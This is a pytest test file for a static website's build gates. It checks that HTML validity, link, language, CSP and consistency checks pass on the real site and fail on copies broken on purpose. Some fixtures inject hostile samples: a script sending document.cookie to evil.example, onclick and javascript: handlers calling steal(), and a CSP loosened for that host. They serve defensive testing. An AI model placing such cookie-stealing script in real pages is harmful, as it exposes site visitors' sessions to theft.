"""The static gates pass on the real built site, and each fails, with a clear message, on a copy broken on purpose."""

from __future__ import annotations

import pytest
from gate_helpers import broken_site, edit, explain, failures  # noqa: F401 (fixture)

from cove_site.formatting import Formatter
from cove_site.gates import consistency, html_validity, language, links, safety
from cove_site.model import load_years

PAGE = "en/funding/index.html"
ARTICLE = '<article class="md-content__inner md-typeset">'


@pytest.mark.parametrize("gate", [html_validity, links, language, safety, consistency],
                         ids=lambda g: g.__name__.rsplit(".", 1)[-1])
def test_gate_passes_on_the_built_site(built_site, gate):
    report = gate.check(built_site)
    assert not report.failed, explain(report)


def test_invalid_tag_and_image_without_alt_text_fail_html_validity(broken_site):
    edit(broken_site, PAGE, ARTICLE, ARTICLE + '<blink>Closing soon</blink><img src="../../assets/images/favicon.png">')
    report = html_validity.check(broken_site)
    on_page = [p.message for p in report.errors if p.page == PAGE]
    assert any("blink" in m for m in on_page) and any("alt" in m for m in on_page), explain(report)


def test_dead_link_dead_anchor_and_dead_srcset_fail_links(broken_site):
    edit(broken_site, PAGE, ARTICLE, ARTICLE + '<a href="../no-such-page/">x</a> <a href="../apply/#no-such-id">y</a>'
                                              '<img alt="" src="../../assets/images/favicon.png" srcset="gone.png 2x">')
    report = links.check(broken_site)
    assert failures(report) == {(PAGE, "dead-link"), (PAGE, "dead-anchor")}, explain(report)
    assert sum(p.rule == "dead-link" for p in report.errors) == 2


def test_external_links_are_listed_in_a_report_not_fetched(built_site, tmp_path):
    listing = tmp_path / "external-links.txt"
    links.check(built_site, listing)
    assert all(line.startswith(("https://", "mailto:")) for line in listing.read_text(encoding="utf-8").splitlines())


def test_wrong_html_lang_missing_x_default_and_one_way_hreflang_fail_language(broken_site):
    edit(broken_site, PAGE, '<html lang="en"', '<html lang="nl"')
    edit(broken_site, "fr/funding/index.html", 'hreflang="x-default"', 'hreflang="de"')
    edit(broken_site, "fr/apply/index.html", '/en/apply/" hreflang="en"', '/en/funding/" hreflang="en"')
    report = language.check(broken_site)
    assert {(PAGE, "html-lang"), ("fr/funding/index.html", "hreflang-missing"),
            ("fr/apply/index.html", "hreflang-two-way")} <= failures(report), explain(report)


def test_injected_script_onclick_and_javascript_url_fail_safety(broken_site):
    edit(broken_site, PAGE, ARTICLE, ARTICLE + '<script>fetch("https://evil.example/"+document.cookie)</script>'
                                              '<button onclick="steal()">x</button><a href=" JavaScript:steal()">y</a>')
    report = safety.check(broken_site)
    assert failures(report) == {(PAGE, "inline-script"), (PAGE, "event-handler"), (PAGE, "javascript-url")}, explain(report)


def test_json_block_that_could_end_early_fails_safety(broken_site):
    edit(broken_site, PAGE, ARTICLE, ARTICLE + '<script type="application/json">{"a": "<!--"}</script>')
    assert (PAGE, "inline-script") in failures(safety.check(broken_site))


def test_material_bootstrap_scripts_are_recognised_but_an_edited_copy_is_not():
    script = '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),' \
             '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=' \
             'localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
    assert safety.is_material_script(script)
    assert not safety.is_material_script(script + ';fetch("//evil.example")')


def test_fact_that_differs_from_the_data_fails_consistency(broken_site):
    years = load_years(consistency.ROOT / "data")
    latest = years[max(years)]
    shown = consistency._shown(Formatter("en").money(latest.fact("funding.max_grant_eur")))
    edit(broken_site, PAGE, shown, "€1", every=True)
    ics = broken_site / f"ics/cove-{latest.year}-deadline.fr.ics"
    text = ics.read_text(encoding="utf-8")
    ics.write_text(text.replace(f"DTSTART;TZID=Europe/Brussels:{latest.year}", f"DTSTART;TZID=Europe/Brussels:{latest.year - 1}"),
                   encoding="utf-8")
    report = consistency.check(broken_site)
    assert {(PAGE, "fact-differs"), (f"ics/cove-{latest.year}-deadline.fr.ics", "ics-differs")} <= failures(report), \
        explain(report)


def test_a_page_without_csp_or_with_a_loose_one_fails_safety(broken_site):
    """Every page carries a CSP before its first script; no inline or remote script, images from here only."""
    html = (broken_site / PAGE).read_text(encoding="utf-8")
    start = html.index('<meta http-equiv="Content-Security-Policy"')
    meta = html[start:html.index(">", start) + 1]
    edit(broken_site, PAGE, meta, "")
    loose = meta.replace("img-src 'self' data:", "img-src 'self' data: https://evil.example") \
                .replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
    edit(broken_site, "en/apply/index.html", '<meta http-equiv="Content-Security-Policy"', "<!-- csp -->", every=True)
    edit(broken_site, "en/apply/index.html", "</head>", loose + "</head>")
    report = safety.check(broken_site)
    assert {(PAGE, "csp-missing"), ("en/apply/index.html", "csp-unsafe"), ("en/apply/index.html", "csp-loose"),
            ("en/apply/index.html", "csp-late")} <= failures(report), explain(report)


def test_anything_loaded_from_another_host_fails_links(broken_site):
    edit(broken_site, PAGE, ARTICLE, ARTICLE + '<img alt="" src="https://evil.example/t.png">'
                                              '<link rel="stylesheet" href="https://cdn.example/x.css">'
                                              '<a href="https://ec.europa.eu/">a link is fine</a>')
    report = links.check(broken_site)
    assert [p.message for p in report.errors if p.rule == "off-site-src" and p.page == PAGE] == [
        "<img> loads 'https://evil.example/t.png' from another host",
        "<link> loads 'https://cdn.example/x.css' from another host"], explain(report)
